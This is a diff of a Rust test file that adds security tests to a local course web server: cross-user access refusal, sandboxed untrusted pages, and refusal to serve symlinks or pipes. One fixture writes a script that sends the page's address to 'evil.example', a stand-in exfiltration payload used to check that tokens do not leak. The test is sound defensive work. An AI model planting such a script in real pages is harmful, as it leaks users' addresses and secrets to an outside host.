@@ -115,14 +115,85 @@ fn somebody_else_on_this_machine_gets_nothing_for_the_ticket() {
     let out = tempdir().expect("a folder");
     let course = Course::open(out.path());
     let ticket = format!("http://{}{}", course.at, course.ticket());
-    let asks = |uid| {
+    // A socket of IPv6 reaches the same door, and is in another table.
+    let mapped = ticket.replacen("127.0.0.1", "[::ffff:127.0.0.1]", 1);
+    let host = format!("Host: {}", course.at);
+    let asks = |uid, ticket: &str| {
         let mut command = std::process::Command::new(&curl);
-        command.args(["-s", "-o", "/dev/null", "-w", "%{http_code} %{redirect_url}"]).arg(&ticket).uid(uid);
+        command
+            .args(["-s", "-g", "-o", "/dev/null", "-w", "%{http_code} %{redirect_url}", "-H", &host])
+            .arg(ticket)
+            .uid(uid);
         String::from_utf8(command.current_dir("/").output().expect("it starts").stdout).expect("a status")
     };
-    assert_eq!(asks(65534), "403 ");
-    let answer = asks(0);
+    assert_eq!(asks(65534, &ticket), "403 ");
+    assert_eq!(asks(65534, &mapped), "403 ");
+    let answer = asks(0, &mapped);
     assert!(answer.starts_with("303 ") && answer.contains(&course.root), "and the person still gets in: {answer}");
+}
+
+/// A page can tell others its own address, by leading the browser there: nothing else may be in it.
+#[test]
+fn a_foreign_page_is_at_an_address_that_opens_nothing_else() {
+    let out = tempdir().expect("a folder");
+    let course = Course::open(out.path());
+    let lesson = out.path().join("lesson1");
+    fs::create_dir(&lesson).expect("a folder");
+    for name in ["lesson1.html", "lesson1.pcapng"] {
+        fs::write(lesson.join(name), "<script>location = 'http://evil.example/?' + location</script>")
+            .expect("written");
+    }
+    let token = course.root.trim_matches('/').to_owned();
+    let [page] = &course.pages()[..] else { panic!("one page is offered") };
+    assert!(!page.contains(&token));
+    let answer = course.ask("GET", page, &[], b"");
+    assert_eq!(answer.status, 200);
+    assert!(!answer.head.contains(&token) && !answer.text().contains(&token));
+    let policy = answer.head.lines().find(|line| line.starts_with("content-security-policy: ")).expect("a policy");
+    assert!(
+        policy.contains("default-src 'none'") && policy.trim_end().ends_with("; sandbox allow-scripts"),
+        "{policy}"
+    );
+    // The mark in its address is good for this page alone, and the page is at no other.
+    let mark = page.trim_start_matches("/page/");
+    for path in
+        [format!("/{mark}/"), format!("/{mark}/compare"), format!("{page}/"), format!("/page/{}", "0".repeat(32))]
+    {
+        assert!([403, 404].contains(&course.ask("GET", &path, &[], b"").status), "{path}");
+    }
+    assert_eq!(course.ask("POST", page, &[], b"").status, 403);
+    assert_eq!(course.get("lesson/1/lesson1.html").status, 404);
+    assert_eq!(course.ask("GET", page, &[("Host", "evil.example")], b"").status, 421);
+}
+
+#[test]
+#[cfg(unix)]
+fn what_is_a_link_a_pipe_or_somebody_elses_is_not_handed_out() {
+    let out = tempdir().expect("a folder");
+    let course = Course::open(out.path());
+    let lesson = out.path().join("lesson1");
+    fs::create_dir(&lesson).expect("a folder");
+    let (secret, at) = (out.path().join("secret"), |name: &str| lesson.join(name));
+    fs::write(&secret, "mine alone").expect("written");
+    fs::write(at("lesson1.pcapng"), "a walk was here").expect("written");
+    std::os::unix::fs::symlink(&secret, at("lesson1.json")).expect("a link");
+    std::os::unix::fs::symlink(&secret, at("lesson1.html")).expect("a link");
+    assert!(std::process::Command::new("mkfifo").arg(at("lesson1-plot.svg")).status().expect("it starts").success());
+    let home = course.get("").text();
+    assert!(home.contains("lesson/1/lesson1.pcapng") && course.get("lesson/1/lesson1.pcapng").status == 200);
+    assert!(
+        !home.contains("lesson1.json") && !home.contains("lesson1-plot.svg") && course.pages().is_empty(),
+        "{home}"
+    );
+    for name in ["lesson1.json", "lesson1-plot.svg"] {
+        assert_eq!(course.get(&format!("lesson/1/{name}")).status, 404, "{name}");
+    }
+    if std::os::unix::fs::chown(at("lesson1.pcapng"), Some(65534), None).is_err() {
+        println!("skipped: only root can give a file away");
+        return;
+    }
+    assert!(!course.get("").text().contains("lesson1.pcapng"));
+    assert_eq!(course.get("lesson/1/lesson1.pcapng").status, 404);
 }
 
 /// Plays a walk to its end, predicting always the same; all steps as the page has them in the end, and the last reply.
@@ -161,7 +232,7 @@ fn a_walk_in_a_browser_is_the_walk_step_by_step_with_what_was_predicted() {
     assert!(items.iter().filter(|i| i["kind"] == "claim").all(|i| i["held"] == true));
     let files = last["files"].as_array().expect("files");
     assert!(files.iter().any(|f| f["path"].as_str().is_some_and(|p| p.ends_with("lesson1.pcapng"))));
-    let page = course.get("lesson/1/lesson1.html");
+    let page = course.ask("GET", &course.pages()[0], &[], b"");
     assert!(page.head.contains("sandbox allow-scripts"), "whoever wrote into the folder can ask for nothing");
     assert_eq!((page.status, page.body), (200, fs::read(out.path().join("lesson1/lesson1.html")).expect("the page")));
     assert!(course.get("").text().contains("lesson/1/lesson1.pcapng"), "the course offers them");
@@ -182,7 +253,7 @@ fn the_page_grows_to_what_the_whole_page_holds() {
         reply = course.wish(2, &next(&reply, None));
         assert!(reply["error"].is_null(), "{reply}");
     }
-    let page = course.get("lesson/2/lesson2.html").text();
+    let page = course.ask("GET", &course.pages()[0], &[], b"").text();
     let data = page.split("id=\"data\">").nth(1).and_then(|rest| rest.split("</script>").next()).expect("the data");
     let whole: Value = serde_json::from_str(data).expect("JSON");
     for table in ["labels", "scenes"] {
